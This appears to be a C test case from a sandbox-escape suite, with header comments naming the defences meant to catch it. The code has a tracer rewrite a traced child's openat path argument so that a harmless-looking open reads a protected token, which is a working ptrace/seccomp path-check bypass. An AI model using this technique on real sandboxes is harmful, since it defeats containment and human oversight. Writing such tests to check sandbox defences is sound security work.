// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: A child makes harmless calls, and its tracer puts the token's path in place of theirs.
 * Known from: bypasses of ptrace sandboxes and seccomp filters before Linux 4.8, which looked
 *     first.
 * First: open family, which looks after ptrace had its turn; odd doors (ptrace)
 * Second: fanotify on the planted inode
 */
#include "trick.h"
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/user.h>

static const char token[] = TOKEN;

/* The child: opens what it believes is harmless. */
static void puppet(void)
{
	ptrace(PTRACE_TRACEME, 0, 0, 0);
	raise(SIGSTOP);
	read_token(syscall(SYS_openat, AT_FDCWD, HARMLESS, O_RDONLY));
}

int main(void)
{
	struct user_regs_struct regs;
	pid_t child = fork();
	int status;

	if (child == 0)
		puppet();
	waitpid(child, &status, 0);
	while (!ptrace(PTRACE_SYSCALL, child, 0, 0) && waitpid(child, &status, 0) == child) {
		if (WIFEXITED(status))
			return WEXITSTATUS(status);
		if (ptrace(PTRACE_GETREGS, child, 0, &regs))
			blocked();
		if (regs.orig_rax == SYS_openat) { /* the same memory at the same address */
			regs.rsi = (unsigned long)token;
			ptrace(PTRACE_SETREGS, child, 0, &regs);
		}
	}
	err(1, "ptrace");
}
